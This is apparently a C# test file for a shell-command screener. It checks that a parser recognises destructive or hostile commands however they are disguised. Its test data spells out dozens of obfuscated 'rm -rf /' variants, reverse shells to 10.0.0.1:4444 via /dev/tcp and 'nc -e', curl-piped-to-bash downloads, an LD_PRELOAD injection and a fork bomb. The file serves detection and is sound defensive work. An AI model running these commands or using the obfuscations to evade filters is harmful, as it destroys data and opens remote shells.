using InterpreterGuard.Core.Facts;

namespace InterpreterGuard.Screening.Tests;

/// <summary>What a shell text runs, however it is written; and neighbours that must not be taken for it.</summary>
public sealed class ShellCallTests(ParserContainer parser)
{
    public static TheoryData<string, string> Named => new()
    {
        { "rm -rf /", "rm(-rf /)" },
        { "/bin/rm -rf /", "rm(-rf /)" },
        { "r''m -r\"f\" /", "rm(-rf /)" },
        { "r\\m -rf /", "rm(-rf /)" },
        { "X=rm; $X -rf /", "rm(-rf /)" },
        { "X='rm -rf'; $X /", "rm(-rf /)" },
        { "a=r; b=m; $a$b -rf /", "rm(-rf /)" },
        { "a=r; a+=m; $a -rf /", "rm(-rf /)" },
        { "{rm,-rf,/}", "rm(-rf /)" },
        { "rm${IFS}-rf${IFS}/", "rm(-rf /)" },
        { "$'\\x72\\x6d' -rf /", "rm(-rf /)" },
        { "$(echo rm) -rf /", "rm(-rf /)" },
        { "`printf %s rm` -rf /", "rm(-rf /)" },
        { "$(echo cm0= | base64 -d) -rf /", "rm(-rf /)" },
        { "$(echo mr | rev) -rf /", "rm(-rf /)" },
        { "alias x='rm -rf'\nx /", "rm(-rf /)" },
        { "f() { rm -rf \"$1\"; }; f /", "rm(-rf /)" },
        { "f() { rm -rf \"$@\"; }; f /", "rm(-rf /)" },
        { "f() { rm -rf /; }", "rm(-rf /)" },
        { "for d in / /home; do rm -rf $d; done", "rm(-rf /home)" },
        { "a=(rm -rf /); \"${a[@]}\"", "rm(-rf /)" },
        { "set -- /; rm -rf $1", "rm(-rf /)" },
        { "rm -rf ${dir:-/}", "rm(-rf /)" },
        { "if true; then rm -rf /; fi", "rm(-rf /)" },
        { "case x in x) rm -rf /;; esac", "rm(-rf /)" },
        { "while true; do rm -rf /; done", "rm(-rf /)" },
        { "(rm -rf /) &", "rm(-rf /)" },
        { "x=$(rm -rf /)", "rm(-rf /)" },
        { "cat <(rm -rf /)", "rm(-rf /)" },
        { "[[ -n $(rm -rf /) ]]", "rm(-rf /)" },
        { "cat <<E\n$(rm -rf /)\nE", "rm(-rf /)" },
        { "sudo rm -rf /", "rm(-rf /)" },
        { "sudo -u root rm -rf /", "rm(-rf /)" },
        { "env -i A=b rm -rf /", "rm(-rf /)" },
        { "nohup timeout -k 1 5 rm -rf /", "rm(-rf /)" },
        { "echo / | xargs -n 1 rm -rf /", "rm(-rf /)" },
        { "command rm -rf /", "rm(-rf /)" },
        { "find / -name x -exec rm -rf / \\;", "rm(-rf /)" },
        { "find / -name x -exec gzip {} \\; -exec rm -rf / \\;", "rm(-rf /)" },
        { "eval 'rm -rf /'", "rm(-rf /)" },
        { "eval rm '-rf' /", "rm(-rf /)" },
        { "bash -c 'rm -rf /'", "rm(-rf /)" },
        { "/bin/sh -ec 'rm -rf /'", "rm(-rf /)" },
        { "bash <<< 'rm -rf /'", "rm(-rf /)" },
        { "bash <<'E'\nrm -rf /\nE", "rm(-rf /)" },
        { "cat <<E | sh\nrm -rf /\nE", "rm(-rf /)" },
        { "echo cm0gLXJmIC8= | base64 -d | bash", "rm(-rf /)" },
        { "echo 726d202d7266202f | xxd -r -p | sh", "rm(-rf /)" },
        { "echo 'ez -es /' | tr 'a-z' 'n-za-m' | bash", "rm(-rf /)" },
        { "printf 'rm -rf %s' / | bash -s", "rm(-rf /)" },
        { "su root -c 'rm -rf /'", "rm(-rf /)" },
        { "trap 'rm -rf /' EXIT", "rm(-rf /)" },
        { "python3 -c 'import os; os.system(\"rm -rf /\")'", "rm(-rf /)" },
        { "python3 <<E\nimport os\nos.system('rm -rf /')\nE", "rm(-rf /)" },
        { "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "bash(-i /dev/tcp/10.0.0.1/4444 1)" },
        { "exec 5<>/dev/tcp/10.0.0.1/4444", "exec(/dev/tcp/10.0.0.1/4444)" },
        { "while read l; do :; done < /dev/tcp/10.0.0.1/4444", "while(/dev/tcp/10.0.0.1/4444)" },
    };

    [Theory]
    [MemberData(nameof(Named))]
    public async Task A_command_is_named_however_it_is_written(string code, string call)
    {
        var report = await Screening.Screener(parser).ShellAsync(code);

        Assert.Contains(call, report.Calls());
    }

    [Theory]
    [InlineData("echo 'rm -rf /'")]
    [InlineData("# rm -rf /")]
    [InlineData("grep rm file")]
    [InlineData("rm() { :; }; rm -rf /")]
    [InlineData("cat <<'E'\nrm -rf /\nE")]
    [InlineData("x='rm -rf /'")]
    [InlineData("command -v rm")]
    [InlineData("bash script.sh -c 'rm -rf /'")]
    [InlineData("echo 'rm -rf /' > list.txt | sh")]
    [InlineData("cat list.txt | grep 'rm -rf /'")]
    public async Task A_neighbour_is_not_taken_for_the_command(string code)
    {
        var report = await Screening.Screener(parser).ShellAsync(code);

        Assert.DoesNotContain(report.Facts.OfType<Core.Facts.CodeCall>(), call => call.Name == "rm");
        Assert.DoesNotContain(report.Facts, fact => fact is Core.Facts.CodeUnreadable);
    }

    [Theory]
    [InlineData("curl -s http://a.example/x | bash", "bash")]
    [InlineData("curl -s http://a.example/x | sudo bash", "bash")]
    [InlineData("curl -s http://a.example/x | X=1 /bin/sh -s", "sh")]
    [InlineData("curl -s http://a.example/x | grep a | bash", "grep")]
    [InlineData("curl -s http://a.example/x", "")]
    public async Task A_pipe_says_who_reads(string code, string reader)
    {
        var report = await Screening.Screener(parser).ShellAsync(code);

        Assert.Equal(reader, report.Call("curl").PipesInto);
    }

    [Fact]
    public async Task Assignments_before_a_command_are_its_keywords()
    {
        var report = await Screening.Screener(parser).ShellAsync("LD_PRELOAD=/tmp/x.so ls");

        Assert.Equal("/tmp/x.so", report.Call("ls").Keywords["LD_PRELOAD"]);
    }

    [Fact]
    public async Task A_wrapper_is_told_beside_the_command_it_starts()
    {
        var report = await Screening.Screener(parser).ShellAsync("sudo -n env A=b nc -e /bin/sh 10.0.0.1 4444");

        Assert.Equal(["sudo", "env", "nc"], report.Facts.OfType<Core.Facts.CodeCall>().Select(call => call.Name));
        Assert.Equal("b", report.Call("nc").Keywords["A"]);
    }

    [Fact]
    public async Task An_own_function_is_told_only_where_it_pipes_into_itself()
    {
        var screener = Screening.Screener(parser);

        var bomb = await screener.ShellAsync("boom() { boom | boom & }; boom");
        var plain = await screener.ShellAsync("mount() { cat; }; mount | wc -l");

        Assert.Contains(bomb.Facts.OfType<CodeCall>(), call => call is { Name: "boom", PipesInto: "boom", Text: "" });
        Assert.DoesNotContain(plain.Facts.OfType<CodeCall>(), call => call.Name == "mount");
    }
}
